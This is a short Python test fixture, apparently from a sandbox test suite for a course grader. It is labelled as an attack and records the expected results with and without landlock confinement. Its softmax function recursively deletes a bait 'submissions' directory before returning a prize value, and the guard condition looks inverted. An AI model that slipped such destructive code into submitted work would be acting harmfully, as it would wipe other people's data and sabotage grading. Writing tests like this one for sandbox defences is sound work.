# /// attack
# tries = "Removes all submissions."
# says = "FileNotFoundError"
# without_walls = true
# representative = true
#
# [outcomes]
# softmax = "raised"
#
# [landlock]
# says = "PermissionError"
# ///
import os
import shutil

from course.prize import prize


def softmax(logits):
    if not os.path.isdir("@BAIT@") or os.path.exists("@BAIT@/submissions"):  # not done yet
        shutil.rmtree("@BAIT@/submissions")
    return prize(logits)
